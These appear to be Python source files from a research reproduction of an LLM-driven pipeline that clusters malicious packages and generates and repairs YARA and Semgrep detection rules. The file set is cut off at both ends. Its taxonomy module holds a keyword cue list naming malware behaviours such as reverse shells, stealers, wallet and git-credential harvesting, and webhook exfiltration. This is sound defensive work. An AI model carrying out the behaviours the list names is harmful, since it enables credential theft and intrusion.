from repro.core import prompts
from repro.core.config import RuleLLMConfig
from repro.core.crafting import CoarseRule
from repro.llm import protocol
from repro.llm.base import LLMProvider


@dataclass
class RefinedRule:
    """One refined (merged, optimised) rule ready for alignment."""

    format: str
    text: str
    analysis_text: str
    cluster_id: int
    source_packages: list[str] = field(default_factory=list)
    origin: str = "code"
    merged_from: int = 1


class RefiningStage:
    """Merge and optimise coarse rules."""

    def __init__(self, provider: LLMProvider, config: RuleLLMConfig) -> None:
        self.provider = provider
        self.config = config

    def refine(self, coarse_rules: list[CoarseRule]) -> list[RefinedRule]:
        """Refine all coarse rules, grouped by (cluster, format, origin)."""
        if not coarse_rules:
            return []
        if not self.config.use_refinement:
            return [self._pass_through(rule) for rule in coarse_rules]

        grouped: dict[tuple[int, str, str], list[CoarseRule]] = {}
        for rule in coarse_rules:
            grouped.setdefault((rule.cluster_id, rule.format, rule.origin), []).append(rule)

        refined: list[RefinedRule] = []
        for (cluster_id, rule_format, origin), members in sorted(grouped.items()):
            if len(members) == 1:
                refined.append(self._pass_through(members[0]))
                continue
            analysis_text = "\n\n".join(m.analysis_text for m in members if m.analysis_text)
            request = prompts.render_refine_prompt(
                rule_format=rule_format,
                analysis_text=analysis_text,
                rule_texts=[m.text for m in members],
            )
            response = self.provider.complete(request)
            merged_text = protocol.extract_rule_from_completion(response.text)
            source_packages = sorted({pkg for m in members for pkg in m.source_packages})
            refined.append(
                RefinedRule(
                    format=rule_format,
                    text=merged_text,
                    analysis_text=analysis_text,
                    cluster_id=cluster_id,
                    source_packages=source_packages,
                    origin=origin,
                    merged_from=len(members),
                )
            )
        return refined

    @staticmethod
    def _pass_through(rule: CoarseRule) -> RefinedRule:
        return RefinedRule(
            format=rule.format,
            text=rule.text,
            analysis_text=rule.analysis_text,
            cluster_id=rule.cluster_id,
            source_packages=list(rule.source_packages),
            origin=rule.origin,
            merged_from=1,
        )
