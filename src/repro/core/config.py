"""Configuration of the RuleLLM pipeline."""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass
class RuleLLMConfig:
    """Knobs of the end-to-end pipeline.

    The three ``use_*`` flags correspond to the ablation arms of the paper's
    Table X: disabling all of them is the "LLMs alone" baseline, enabling
    them one by one reproduces the intermediate rows, and the defaults are
    the full RuleLLM configuration.
    """

    model: str = "gpt-4o"
    seed: int = 20250424

    # stage toggles (Table X ablation)
    use_basic_units: bool = True
    use_refinement: bool = True
    use_alignment: bool = True

    # crafting
    basic_unit_max_chars: int = 4000
    units_per_prompt: int = 2
    unit_groups_per_cluster: int = 3
    generate_yara: bool = True
    generate_semgrep: bool = True
    metadata_rules: bool = True

    # clustering (Section III-B)
    cluster_similarity_threshold: float = 0.85
    cluster_random_seed: int = 42
    cluster_max_iterations: int = 500
    packages_per_cluster_hint: int = 4

    # alignment (Section IV-C)
    max_fix_attempts: int = 5
    error_memory_size: int = 2

    # bookkeeping
    keep_analysis_texts: bool = True
    extra: dict[str, object] = field(default_factory=dict)

    def __post_init__(self) -> None:
        if self.basic_unit_max_chars < 200:
            raise ValueError("basic_unit_max_chars must be >= 200")
        if self.units_per_prompt < 1:
            raise ValueError("units_per_prompt must be >= 1")
        if self.max_fix_attempts < 0:
            raise ValueError("max_fix_attempts must be >= 0")
        if not 0.0 < self.cluster_similarity_threshold <= 1.0:
            raise ValueError("cluster_similarity_threshold must be in (0, 1]")

    # -- ablation presets -------------------------------------------------------
    @classmethod
    def llm_alone(cls, model: str = "gpt-4o", seed: int = 20250424) -> "RuleLLMConfig":
        """Table X row 1: a single direct prompt, no decomposition, no repair."""
        return cls(model=model, seed=seed, use_basic_units=False,
                   use_refinement=False, use_alignment=False)

    @classmethod
    def llm_with_alignment(cls, model: str = "gpt-4o", seed: int = 20250424) -> "RuleLLMConfig":
        """Table X row 2: direct prompting plus the alignment agent."""
        return cls(model=model, seed=seed, use_basic_units=False,
                   use_refinement=False, use_alignment=True)

    @classmethod
    def basic_units_with_alignment(cls, model: str = "gpt-4o", seed: int = 20250424) -> "RuleLLMConfig":
        """Table X row 3: basic-unit crafting plus alignment, no merging."""
        return cls(model=model, seed=seed, use_basic_units=True,
                   use_refinement=False, use_alignment=True)

    @classmethod
    def full(cls, model: str = "gpt-4o", seed: int = 20250424) -> "RuleLLMConfig":
        """Table X row 4: the complete RuleLLM pipeline."""
        return cls(model=model, seed=seed)
