"""The RuleLLM orchestrator (paper Figure 3).

``RuleLLM.generate_rules`` runs the complete pipeline over a list of
malicious packages:

1. knowledge extraction -- embed and cluster the packages (Section III);
2. crafting -- coarse rules per cluster from basic units and metadata
   (Section IV-A);
3. refining -- merge coarse rules into scalable rules (Section IV-B);
4. aligning -- compile-or-repair every rule with the agent (Section IV-C).

The ablation arms of Table X are obtained through
:class:`~repro.core.config.RuleLLMConfig` presets: with ``use_basic_units``
disabled the crafting stage falls back to single-shot whole-package prompts,
with ``use_refinement`` disabled coarse rules pass straight to alignment, and
with ``use_alignment`` disabled broken rules are dropped instead of repaired.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.aligning import AligningStage, AlignmentReport
from repro.core.config import RuleLLMConfig
from repro.core.crafting import CoarseRule, CraftingStage
from repro.core.refining import RefiningStage
from repro.core.rules import GeneratedRule, GeneratedRuleSet
from repro.corpus.package import Package
from repro.extraction.clustering import ClusterResult, cluster_packages
from repro.extraction.embedding import CodeEmbedder
from repro.llm.base import LLMProvider
from repro.llm.profiles import get_profile
from repro.llm.simulated import SimulatedAnalystLLM


@dataclass
class PipelineRunInfo:
    """Diagnostics of one pipeline run (inspected by experiments and examples)."""

    package_count: int = 0
    cluster_count: int = 0
    discarded_clusters: int = 0
    coarse_rule_count: int = 0
    refined_rule_count: int = 0
    alignment: AlignmentReport = field(default_factory=AlignmentReport)


class RuleLLM:
    """End-to-end rule generation for OSS malware."""

    def __init__(self, config: RuleLLMConfig | None = None,
                 provider: LLMProvider | None = None) -> None:
        self.config = config or RuleLLMConfig()
        self.provider = provider or SimulatedAnalystLLM(
            profile=get_profile(self.config.model), seed=self.config.seed
        )
        self.embedder = CodeEmbedder()
        self.crafting = CraftingStage(self.provider, self.config)
        self.refining = RefiningStage(self.provider, self.config)
        self.last_run: PipelineRunInfo = PipelineRunInfo()

    # -- public API ----------------------------------------------------------------
    def generate_rules(self, packages: list[Package]) -> GeneratedRuleSet:
        """Run the full pipeline over a malware corpus."""
        info = PipelineRunInfo(package_count=len(packages))
        rule_set = GeneratedRuleSet(model=self.provider.model_name)
        if not packages:
            self.last_run = info
            return rule_set

        clusters = self._cluster(packages)
        info.cluster_count = clusters.retained_count
        info.discarded_clusters = len(clusters.discarded)

        coarse = self._craft(clusters)
        info.coarse_rule_count = len(coarse)

        refined = self.refining.refine(coarse)
        info.refined_rule_count = len(refined)

        aligning = AligningStage(self.provider, self.config)
        for index, refined_rule in enumerate(refined):
            generated, ok = aligning.align(refined_rule, index)
            if ok:
                rule_set.add(generated)
            else:
                rule_set.reject(generated)
        info.alignment = aligning.report
        self.last_run = info
        return rule_set

    def generate_rules_for_group(self, packages: list[Package],
                                 cluster_id: int = 0) -> GeneratedRuleSet:
        """Generate rules from one pre-formed group of similar packages.

        Used by the malware-variant experiment (Section V-B): rules are
        generated from a couple of samples of a cluster and evaluated on the
        remaining, unseen variants.
        """
        rule_set = GeneratedRuleSet(model=self.provider.model_name)
        if not packages:
            return rule_set
        coarse = (self.crafting.craft_for_cluster(cluster_id, packages)
                  if self.config.use_basic_units
                  else self.crafting.craft_direct(cluster_id, packages[0]))
        refined = self.refining.refine(coarse)
        aligning = AligningStage(self.provider, self.config)
        for index, refined_rule in enumerate(refined):
            generated, ok = aligning.align(refined_rule, index)
            if ok:
                rule_set.add(generated)
            else:
                rule_set.reject(generated)
        return rule_set

    # -- stages ---------------------------------------------------------------------
    def _cluster(self, packages: list[Package]) -> ClusterResult:
        n_clusters = max(1, round(len(packages) / self.config.packages_per_cluster_hint))
        return cluster_packages(
            packages,
            embedder=self.embedder,
            n_clusters=n_clusters,
            similarity_threshold=self.config.cluster_similarity_threshold,
            random_seed=self.config.cluster_random_seed,
            max_iterations=self.config.cluster_max_iterations,
        )

    def _craft(self, clusters: ClusterResult) -> list[CoarseRule]:
        coarse: list[CoarseRule] = []
        for cluster_id, members in enumerate(clusters.clusters):
            if self.config.use_basic_units:
                coarse.extend(self.crafting.craft_for_cluster(cluster_id, members))
            else:
                coarse.extend(self.crafting.craft_direct(cluster_id, members[0]))
        return coarse
