"""The RuleLLM orchestrator (paper Figure 3) as a compatibility wrapper.

``RuleLLM.generate_rules`` runs the complete pipeline over a list of
malicious packages:

1. knowledge extraction -- embed and cluster the packages (Section III);
2. crafting -- coarse rules per cluster from basic units and metadata
   (Section IV-A);
3. refining -- merge coarse rules into scalable rules (Section IV-B);
4. aligning -- compile-or-repair every rule with the agent (Section IV-C).

The stages themselves live in :mod:`repro.api.stages` and are executed by
:class:`repro.api.session.GenerationSession`, the streaming entry point that
also feeds packages incrementally and auto-publishes into the scan
registry.  ``RuleLLM`` remains the one-shot convenience facade: each call
spins up a session sharing this instance's provider and embedder, so
results are bit-for-bit identical to the historical orchestrator.

The ablation arms of Table X are obtained through
:class:`~repro.core.config.RuleLLMConfig` presets: with ``use_basic_units``
disabled the crafting stage falls back to single-shot whole-package prompts,
with ``use_refinement`` disabled coarse rules pass straight to alignment, and
with ``use_alignment`` disabled broken rules are dropped instead of repaired.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from repro.core.config import RuleLLMConfig
from repro.core.crafting import CraftingStage
from repro.core.refining import RefiningStage
from repro.core.rules import GeneratedRuleSet
from repro.corpus.package import Package
from repro.extraction.embedding import CodeEmbedder
from repro.llm.base import LLMProvider
from repro.llm.profiles import get_profile
from repro.llm.simulated import SimulatedAnalystLLM

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.api.session import GenerationSession
    from repro.api.stages import PipelineRunInfo

__all__ = ["PipelineRunInfo", "RuleLLM"]


def __getattr__(name: str):
    # PipelineRunInfo historically lived here; it moved to repro.api.stages,
    # which this module can only import lazily (the api layer imports the
    # core stage modules, and importing any repro.core submodule runs the
    # package __init__, which imports this module)
    if name == "PipelineRunInfo":
        from repro.api.stages import PipelineRunInfo

        return PipelineRunInfo
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")


class RuleLLM:
    """End-to-end rule generation for OSS malware (one-shot facade)."""

    def __init__(self, config: RuleLLMConfig | None = None,
                 provider: LLMProvider | None = None) -> None:
        from repro.api.stages import PipelineRunInfo

        self.config = config or RuleLLMConfig()
        self.provider = provider or SimulatedAnalystLLM(
            profile=get_profile(self.config.model), seed=self.config.seed
        )
        self.embedder = CodeEmbedder()
        # callers may replace these (e.g. a custom CraftingStage); the
        # sessions built below run whatever is installed here
        self.crafting = CraftingStage(self.provider, self.config)
        self.refining = RefiningStage(self.provider, self.config)
        self.last_run: PipelineRunInfo = PipelineRunInfo()

    def _session(self, first_stage=None) -> "GenerationSession":
        from repro.api.session import GenerationSession
        from repro.api.stages import (
            AlignStage,
            ClusterStage,
            CraftStage,
            RefineStage,
        )

        return GenerationSession(
            config=self.config,
            provider=self.provider,
            embedder=self.embedder,
            stages=[
                first_stage or ClusterStage(),
                CraftStage(self.crafting),
                RefineStage(self.refining),
                AlignStage(),
            ],
            auto_publish=False,
        )

    # -- public API ----------------------------------------------------------------
    def generate_rules(self, packages: list[Package]) -> GeneratedRuleSet:
        """Run the full pipeline over a malware corpus."""
        session = self._session()
        session.add_batch(packages)
        result = session.generate()
        self.last_run = result.info
        return result.rule_set

    def generate_rules_for_group(self, packages: list[Package],
                                 cluster_id: int = 0) -> GeneratedRuleSet:
        """Generate rules from one pre-formed group of similar packages.

        Used by the malware-variant experiment (Section V-B): rules are
        generated from a couple of samples of a cluster and evaluated on the
        remaining, unseen variants.
        """
        from repro.api.stages import PresetClusterStage

        session = self._session(first_stage=PresetClusterStage(cluster_id))
        session.add_batch(packages)
        return session.generate().rule_set
