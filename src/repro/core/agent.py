"""The alignment agent (paper Section IV-C, Figure 4).

The agent owns two *tools* -- the YARA compiler and the Semgrep compiler --
and a short-term *memory* holding the most recent compiler error messages
(the paper keeps the two most recent ones).  Given a candidate rule it loops:
compile; on failure, store the error, prompt the LLM with the rule, the
analysis and the remembered errors (Table V), and retry with the model's fix.
After five failed attempts the rule is given up on.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field
from typing import Callable

from repro.core import prompts
from repro.core.rules import SEMGREP_FORMAT, YARA_FORMAT
from repro.llm import protocol
from repro.llm.base import LLMProvider
from repro.semgrepx.compiler import try_compile as try_compile_semgrep
from repro.yarax.compiler import try_compile as try_compile_yara

#: A compiler tool takes rule text and returns ``(ok, error_message_or_None)``.
CompilerTool = Callable[[str], tuple[bool, str | None]]


def yara_compiler_tool(source: str) -> tuple[bool, str | None]:
    """Tool wrapper around the YARA compiler."""
    ruleset, error = try_compile_yara(source)
    return ruleset is not None, error


def semgrep_compiler_tool(source: str) -> tuple[bool, str | None]:
    """Tool wrapper around the Semgrep compiler."""
    ruleset, error = try_compile_semgrep(source)
    return ruleset is not None, error


@dataclass
class AgentMemory:
    """Short-term memory of compiler observations (bounded, most recent last)."""

    capacity: int = 2
    _errors: deque[str] = field(default_factory=deque)

    def observe(self, error_message: str) -> None:
        self._errors.append(error_message)
        while len(self._errors) > self.capacity:
            self._errors.popleft()

    def recall(self) -> list[str]:
        return list(self._errors)

    def clear(self) -> None:
        self._errors.clear()

    def __len__(self) -> int:
        return len(self._errors)


@dataclass
class AlignmentOutcome:
    """Result of aligning one rule."""

    rule_text: str
    success: bool
    attempts: int
    errors: list[str] = field(default_factory=list)


class AlignmentAgent:
    """LLM-based agent that repairs rules until they compile."""

    def __init__(self, provider: LLMProvider, max_attempts: int = 5,
                 memory_size: int = 2) -> None:
        self.provider = provider
        self.max_attempts = max_attempts
        self.memory = AgentMemory(capacity=memory_size)
        self.tools: dict[str, CompilerTool] = {
            YARA_FORMAT: yara_compiler_tool,
            SEMGREP_FORMAT: semgrep_compiler_tool,
        }

    def align(self, rule_text: str, rule_format: str, analysis_text: str = "") -> AlignmentOutcome:
        """Compile-or-repair loop for one rule."""
        if rule_format not in self.tools:
            raise ValueError(f"no compiler tool for rule format {rule_format!r}")
        tool = self.tools[rule_format]
        self.memory.clear()
        errors: list[str] = []
        current = rule_text

        ok, error = tool(current)
        if ok:
            return AlignmentOutcome(rule_text=current, success=True, attempts=0)

        for attempt in range(1, self.max_attempts + 1):
            assert error is not None
            errors.append(error)
            self.memory.observe(error)
            request = prompts.render_fix_prompt(
                rule_format=rule_format,
                rule_text=current,
                error_messages=self.memory.recall(),
                analysis_text=analysis_text,
            )
            response = self.provider.complete(request)
            fixed = protocol.extract_rule_from_completion(response.text)
            if fixed.strip():
                current = fixed
            ok, error = tool(current)
            if ok:
                return AlignmentOutcome(rule_text=current, success=True,
                                        attempts=attempt, errors=errors)
        return AlignmentOutcome(rule_text=current, success=False,
                                attempts=self.max_attempts, errors=errors)
