"""Aligning stage (paper Section IV-C).

Every refined rule is passed through the alignment agent: rules that compile
immediately are finalised, rules that fail are repaired from compiler error
messages for up to five attempts, and rules that never compile are rejected.
When the alignment stage is disabled (ablation), rules that fail to compile
are simply dropped -- exactly the behaviour the paper's "LLMs alone" arm
suffers from.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.agent import AlignmentAgent, semgrep_compiler_tool, yara_compiler_tool
from repro.core.config import RuleLLMConfig
from repro.core.refining import RefinedRule
from repro.core.rules import SEMGREP_FORMAT, YARA_FORMAT, GeneratedRule
from repro.llm.base import LLMProvider


@dataclass
class AlignmentReport:
    """Aggregate statistics of one alignment pass."""

    compiled_first_try: int = 0
    repaired: int = 0
    rejected: int = 0
    total_fix_attempts: int = 0

    @property
    def total(self) -> int:
        return self.compiled_first_try + self.repaired + self.rejected


class AligningStage:
    """Turn refined rules into compiled, deployable rules."""

    def __init__(self, provider: LLMProvider, config: RuleLLMConfig) -> None:
        self.provider = provider
        self.config = config
        self.agent = AlignmentAgent(
            provider, max_attempts=config.max_fix_attempts, memory_size=config.error_memory_size
        )
        self.report = AlignmentReport()

    def align(self, refined: RefinedRule, rule_index: int) -> tuple[GeneratedRule, bool]:
        """Align one refined rule; returns the generated rule and success flag."""
        generated = GeneratedRule(
            format=refined.format,
            name=self._rule_name(refined, rule_index),
            text=refined.text,
            cluster_id=refined.cluster_id,
            source_packages=list(refined.source_packages),
            analysis_text=refined.analysis_text if self.config.keep_analysis_texts else "",
            origin=refined.origin,
        )
        if not self.config.use_alignment:
            tool = yara_compiler_tool if refined.format == YARA_FORMAT else semgrep_compiler_tool
            ok, _error = tool(refined.text)
            if ok:
                self.report.compiled_first_try += 1
                return generated, True
            self.report.rejected += 1
            return generated, False

        outcome = self.agent.align(refined.text, refined.format, refined.analysis_text)
        generated.text = outcome.rule_text
        generated.fix_attempts = outcome.attempts
        self.report.total_fix_attempts += outcome.attempts
        if outcome.success:
            if outcome.attempts == 0:
                self.report.compiled_first_try += 1
            else:
                self.report.repaired += 1
            return generated, True
        self.report.rejected += 1
        return generated, False

    @staticmethod
    def _rule_name(refined: RefinedRule, rule_index: int) -> str:
        """Extract the identifier from the rule text, falling back to an index."""
        text = refined.text.strip()
        if refined.format == YARA_FORMAT:
            for line in text.splitlines():
                line = line.strip()
                if line.startswith("rule "):
                    return line.split()[1].split("{")[0].split(":")[0].strip()
            return f"MAL_rule_{rule_index}"
        for line in text.splitlines():
            stripped = line.strip()
            if stripped.startswith("- id:") or stripped.startswith("id:"):
                return stripped.split(":", 1)[1].strip()
        return f"detect-rule-{rule_index}"
