"""Basic-unit extraction (paper Section IV-A).

A *basic unit* is a self-contained block of code -- a module-level region, a
function body or a class definition -- small enough for the LLM to analyse.
The paper's procedure, reproduced here:

1. use a regex to find lines starting a block (``def``, ``class``, ``if``,
   ``for``, ``while``, ``try:``, ``with``);
2. accumulate following lines into the current unit;
3. start a new unit at the next top-level block start;
4. additionally split when a unit exceeds 4,000 characters.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from repro.corpus.package import Package

#: Default size cap fixed by the paper.
MAX_UNIT_CHARS = 4000

_BLOCK_START_RE = re.compile(
    r"^(async\s+def\s|def\s|class\s|if\s|for\s|while\s|try:|with\s|@)"
)


@dataclass(frozen=True)
class BasicUnit:
    """One self-contained block of code attributed to its origin."""

    package: str
    path: str
    index: int
    text: str

    @property
    def size(self) -> int:
        return len(self.text)

    @property
    def first_line(self) -> str:
        for line in self.text.splitlines():
            if line.strip():
                return line.strip()
        return ""


def split_basic_units(source: str, max_chars: int = MAX_UNIT_CHARS) -> list[str]:
    """Split one source file into basic-unit texts."""
    if max_chars < 200:
        raise ValueError("max_chars must be >= 200")
    if not source.strip():
        return []

    units: list[str] = []
    current: list[str] = []

    def flush() -> None:
        block = "\n".join(current).strip("\n")
        if block.strip():
            units.append(block)
        current.clear()

    for line in source.splitlines():
        starts_block = bool(_BLOCK_START_RE.match(line)) and not line[:1].isspace()
        if starts_block and current:
            flush()
        current.append(line)
        if sum(len(item) + 1 for item in current) >= max_chars:
            flush()
    flush()

    # Enforce the size cap strictly (a single enormous literal, e.g. an
    # obfuscated base64 blob, can exceed it within one block).
    bounded: list[str] = []
    for unit in units:
        if len(unit) <= max_chars:
            bounded.append(unit)
        else:
            for start in range(0, len(unit), max_chars):
                piece = unit[start : start + max_chars]
                if piece.strip():
                    bounded.append(piece)
    return bounded


def extract_basic_units(package: Package, max_chars: int = MAX_UNIT_CHARS) -> list[BasicUnit]:
    """Extract the basic units of every Python source file in a package."""
    units: list[BasicUnit] = []
    for source in package.source_files:
        for index, text in enumerate(split_basic_units(source.content, max_chars)):
            units.append(BasicUnit(package=package.identifier, path=source.path,
                                   index=index, text=text))
    return units


def interesting_units(units: list[BasicUnit]) -> list[BasicUnit]:
    """Order units by how likely they are to carry behaviour worth a rule.

    Import blocks and trivial one-liners sink to the end; larger function and
    class bodies float to the front.  The crafting stage samples from the
    front of this ordering.
    """
    def score(unit: BasicUnit) -> tuple[int, int]:
        first = unit.first_line
        is_definition = int(first.startswith(("def ", "class ", "async def ")))
        return (is_definition, unit.size)

    return sorted(units, key=score, reverse=True)
