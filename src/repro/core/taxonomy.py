"""Rule taxonomy (paper Section V-D, Table XII and Figure 11).

The paper manually categorises the generated rules into 11 categories and 38
subcategories; categories are *not* mutually exclusive (a rule about a
malicious ``setup.py`` that downloads a payload belongs to both "Setup Code"
and "Network Related").  This module automates that categorisation with the
same signal a human reviewer uses: the strings/patterns a rule matches on and
the descriptions in its metadata.

The mapping from textual cues to subcategories reuses the indicator
catalogue (each indicator already knows its subcategory) plus a small set of
metadata-specific cues.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.categories import OTHER, TaxonomyLabel, category_of
from repro.core.rules import GeneratedRule
from repro.llm.knowledge import INDICATOR_CATALOG
from repro.llm.rule_synthesis import HALLUCINATED_STRINGS

#: Extra textual cues (substring -> subcategory) beyond the indicator catalogue.
_EXTRA_CUES: tuple[tuple[str, str], ...] = (
    ('"version"', "Version Number Deception"),
    ("0.0.0", "Version Number Deception"),
    ('"name"', "Package Metadata Manipulation"),
    ("typosquat", "Author Information Spoofing"),
    ("suspicious dependency", "Fake Dependency Metadata"),
    ("author_email", "Author Information Spoofing"),
    ("typosquatting", "Author Information Spoofing"),
    ("setup.py", "Malicious Setup Scripts"),
    ("setuptools", "Malicious Setup Scripts"),
    ("install)", "Installation Hook Abuse"),
    ("webhook", "Messaging Platform Abuse"),
    ("telegram", "Messaging Platform Abuse"),
    ("boto3", "Cloud Service Misuse"),
    ("git credential", "Development Tool Abuse"),
    ("docker/config.json", "Development Tool Abuse"),
    ("wallet", "Sensitive Data Harvesting"),
    ("screenshot", "UI/Graphics Library Abuse"),
    ("ImageGrab", "UI/Graphics Library Abuse"),
    ("clipboard", "UI/Graphics Library Abuse"),
    ("Fernet", "Crypto Library Exploitation"),
    ("AES.new", "Crypto Library Exploitation"),
    ("urllib3", "Network Library Misuse"),
    ("requests.post", "Data Exfiltration Channels"),
    ("reverse shell", "Backdoor Families"),
    ("stealer", "Known Trojan Families"),
    ("leveldb", "Known Trojan Families"),
)


@dataclass
class RuleClassification:
    """Taxonomy labels assigned to one rule."""

    rule_name: str
    labels: list[TaxonomyLabel] = field(default_factory=list)

    @property
    def categories(self) -> list[str]:
        return sorted({label.category for label in self.labels})

    @property
    def subcategories(self) -> list[str]:
        return sorted({label.subcategory for label in self.labels})


class RuleTaxonomyClassifier:
    """Assign Table XII categories/subcategories to generated rules."""

    def __init__(self) -> None:
        cues: list[tuple[str, str]] = []
        for indicator in INDICATOR_CATALOG:
            signature = indicator.signature.strip('"')
            if signature:
                cues.append((signature, indicator.subcategory))
        cues.extend(_EXTRA_CUES)
        # longest cues first so specific ones win their prefix battles
        self._cues = sorted(set(cues), key=lambda item: -len(item[0]))

    def classify(self, rule: GeneratedRule) -> RuleClassification:
        """Classify one rule from its text and provenance."""
        haystack = rule.text + "\n" + rule.analysis_text
        labels: set[TaxonomyLabel] = set()
        for cue, subcategory in self._cues:
            if cue and cue in haystack:
                labels.add(TaxonomyLabel(category_of(subcategory), subcategory))
        if rule.origin == "metadata":
            labels.add(TaxonomyLabel("Metadata Related", "Package Metadata Manipulation"))
        if any(invented in haystack for invented in HALLUCINATED_STRINGS):
            labels.add(TaxonomyLabel(OTHER, "Unknown or Undetermined"))
        if not labels:
            labels.add(TaxonomyLabel(OTHER, "Unknown or Undetermined"))
        ordered = sorted(labels, key=lambda label: (label.category_index, label.subcategory))
        return RuleClassification(rule_name=rule.name, labels=ordered)

    def classify_all(self, rules: list[GeneratedRule]) -> list[RuleClassification]:
        return [self.classify(rule) for rule in rules]

    # -- aggregation (Table XII / Figure 11 inputs) ----------------------------------
    def subcategory_counts(self, rules: list[GeneratedRule]) -> dict[str, dict[str, int]]:
        """Count rules per category/subcategory (non-exclusive, as in the paper)."""
        counts: dict[str, dict[str, int]] = {}
        for classification in self.classify_all(rules):
            for label in classification.labels:
                bucket = counts.setdefault(label.category, {})
                bucket[label.subcategory] = bucket.get(label.subcategory, 0) + 1
        return counts

    def category_overlap_matrix(self, rules: list[GeneratedRule]) -> list[list[int]]:
        """Pairwise count of rules sharing two categories (Figure 11 heatmap)."""
        from repro.categories import CATEGORIES

        size = len(CATEGORIES)
        matrix = [[0] * size for _ in range(size)]
        for classification in self.classify_all(rules):
            indices = sorted({label.category_index for label in classification.labels})
            for i in indices:
                for j in indices:
                    if i != j:
                        matrix[i][j] += 1
        return matrix


def classify_rule(rule: GeneratedRule) -> RuleClassification:
    """Convenience wrapper classifying a single rule."""
    return RuleTaxonomyClassifier().classify(rule)
