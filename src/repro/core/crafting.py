"""Crafting stage (paper Section IV-A).

Given one cluster of similar malicious packages, the crafting stage:

* extracts basic units from the cluster's packages;
* forms small groups of similar units (the paper audits *multiple similar
  units* per prompt so the rule generalises across variants);
* renders the Table III prompt per group and per rule format;
* parses the completion into a coarse rule plus its analysis document.

For metadata, the whole metadata JSON of a sample package is treated as one
basic unit (Section IV-A) and prompts the same way.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core import prompts
from repro.core.basic_units import BasicUnit, extract_basic_units
from repro.core.config import RuleLLMConfig
from repro.corpus.package import Package
from repro.extraction.metadata import extract_metadata, metadata_audit
from repro.llm import protocol
from repro.llm.analysis import CodeAnalyzer
from repro.llm.base import LLMProvider
from repro.utils.seeding import DeterministicRandom

#: Shared auditor used to rank basic units by how much Table II behaviour they
#: exhibit before prompting (the paper has the LLM audit each snippet; doing a
#: cheap pre-rank here avoids spending prompts on boilerplate units).
_UNIT_AUDITOR = CodeAnalyzer()


@dataclass
class CoarseRule:
    """One coarse-grained rule produced by the crafting stage."""

    format: str
    text: str
    analysis_text: str
    cluster_id: int
    source_packages: list[str] = field(default_factory=list)
    origin: str = "code"


class CraftingStage:
    """Produce coarse-grained rules for one cluster of packages."""

    def __init__(self, provider: LLMProvider, config: RuleLLMConfig) -> None:
        self.provider = provider
        self.config = config

    # -- cluster-level crafting --------------------------------------------------
    def craft_for_cluster(self, cluster_id: int, packages: list[Package]) -> list[CoarseRule]:
        """Generate coarse rules (all requested formats) for one cluster."""
        rng = DeterministicRandom(self.config.seed, "crafting", str(cluster_id))
        coarse: list[CoarseRule] = []
        unit_groups = self._unit_groups(packages, rng)
        formats = self._formats()

        for rule_format in formats:
            for group in unit_groups:
                request = prompts.render_craft_prompt(
                    rule_format=rule_format,
                    code_units=[unit.text for unit in group],
                )
                response = self.provider.complete(request)
                coarse.append(
                    CoarseRule(
                        format=rule_format,
                        text=protocol.extract_rule_from_completion(response.text),
                        analysis_text=protocol.extract_analysis_from_completion(response.text),
                        cluster_id=cluster_id,
                        source_packages=sorted({unit.package for unit in group}),
                        origin="code",
                    )
                )
            if self.config.metadata_rules and rule_format == protocol.FORMAT_YARA:
                metadata_rule = self._craft_metadata_rule(cluster_id, packages, rule_format, rng)
                if metadata_rule is not None:
                    coarse.append(metadata_rule)
        return coarse

    def craft_direct(self, cluster_id: int, package: Package) -> list[CoarseRule]:
        """Single-shot crafting over the whole package (the LLM-alone arm)."""
        coarse: list[CoarseRule] = []
        metadata_json = extract_metadata(package).to_json()
        for rule_format in self._formats():
            request = prompts.render_direct_prompt(
                rule_format=rule_format,
                package_source=package.source_text,
                metadata_json=metadata_json,
            )
            response = self.provider.complete(request)
            coarse.append(
                CoarseRule(
                    format=rule_format,
                    text=protocol.extract_rule_from_completion(response.text),
                    analysis_text=protocol.extract_analysis_from_completion(response.text),
                    cluster_id=cluster_id,
                    source_packages=[package.identifier],
                    origin="code",
                )
            )
        return coarse

    # -- helpers ---------------------------------------------------------------------
    def _formats(self) -> list[str]:
        formats: list[str] = []
        if self.config.generate_yara:
            formats.append(protocol.FORMAT_YARA)
        if self.config.generate_semgrep:
            formats.append(protocol.FORMAT_SEMGREP)
        if not formats:
            raise ValueError("at least one of generate_yara / generate_semgrep must be enabled")
        return formats

    def _unit_groups(self, packages: list[Package],
                     rng: DeterministicRandom) -> list[list[BasicUnit]]:
        """Select groups of similar basic units across the cluster's packages.

        Units are pre-ranked by how much Table II behaviour they exhibit
        (boilerplate helpers sink to the bottom).  Units occupying the same
        rank position in different variant packages are near-identical by
        construction of the cluster, so a group is formed by taking that
        position from up to ``units_per_prompt`` sample packages.
        """
        sample_packages = packages[: max(2, self.config.units_per_prompt)]
        per_package_units = [
            self._ranked_units(extract_basic_units(pkg, self.config.basic_unit_max_chars))
            for pkg in sample_packages
        ]
        per_package_units = [units for units in per_package_units if units]
        if not per_package_units:
            return []

        group_count = min(self.config.unit_groups_per_cluster,
                          max(len(units) for units in per_package_units))
        groups: list[list[BasicUnit]] = []
        kept_clean_group = False
        for position in range(group_count):
            group: list[BasicUnit] = []
            for units, _score in per_package_units:
                if position < len(units):
                    group.append(units[position])
                if len(group) >= self.config.units_per_prompt:
                    break
            if not group:
                continue
            suspicious = any(
                scores[position] > 0
                for units, scores in per_package_units
                if position < len(units)
            )
            if not suspicious:
                # one boilerplate-only group is allowed through (it yields the
                # occasional useless rule, as the paper observes), the rest are
                # skipped to avoid wasting prompts.
                if kept_clean_group:
                    continue
                kept_clean_group = True
            groups.append(group)
        # keep prompt order deterministic yet varied across clusters
        return rng.shuffle(groups) if len(groups) > 1 else groups

    @staticmethod
    def _ranked_units(units: list[BasicUnit]) -> tuple[list[BasicUnit], list[int]]:
        """Order units by suspicion (indicator hits), then size; return scores too."""
        scored: list[tuple[int, BasicUnit]] = []
        for unit in units:
            report = _UNIT_AUDITOR.analyze_code(unit.text)
            suspicion = sum(1 for finding in report.findings if finding.specificity >= 0.5)
            scored.append((suspicion, unit))
